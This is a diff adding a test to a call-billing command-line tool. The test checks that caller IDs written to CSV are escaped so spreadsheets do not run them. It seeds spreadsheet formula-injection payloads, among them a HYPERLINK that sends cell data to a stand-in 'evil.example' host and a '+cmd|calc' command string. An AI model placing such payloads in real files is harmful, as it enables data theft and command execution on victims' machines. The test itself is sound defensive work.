@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import type { Rate } from '../../daemon/src/rating/index.js';
 import { forEachDatabase, uniqueName, type TestStore } from '../support/db.js';
+import { readCsv } from '../../daemon/src/csv.js';
 import { astbill, parsed } from './run-cli.js';
 
 interface CallJson {
@@ -117,6 +118,42 @@ describe('astbill calls and cdr', function () {
         ),
       );
       assert.equal(parsed<CdrJson[]>(s).length, 2);
+    });
+
+    it('writes caller IDs into CSV so that no spreadsheet runs them, and leaves numbers alone', async () => {
+      const a = await t.seedAccount({ balance: '1' });
+      const hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"x")',
+        '@SUM(1+1)',
+        '+cmd|calc',
+        '-1+1',
+        '\tTAB',
+        '+447700900123',
+        '-5.25',
+      ];
+      for (const [i, src] of hostile.entries())
+        await t.store.recordRefusal({
+          uniqueid: uniqueName('hostile'),
+          accountId: a.id,
+          src,
+          dst: '999',
+          reason: 'NOROUTE',
+          node: 'node7',
+          start: new Date(Date.UTC(2030, 0, 4, 10, i)),
+        });
+      const r = await cli('cdr', '--account', a.name, '--csv');
+      assert.equal(r.code, 0, r.stderr);
+      const [header, ...rows] = readCsv(r.stdout).map((x) => x.fields);
+      const src = rows.map((row) => row[header!.indexOf('src')]);
+      assert.deepEqual(src, [
+        `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
+        "'@SUM(1+1)",
+        "'+cmd|calc",
+        "'-1+1",
+        "'\tTAB",
+        '+447700900123',
+        '-5.25',
+      ]);
     });
   });
 });
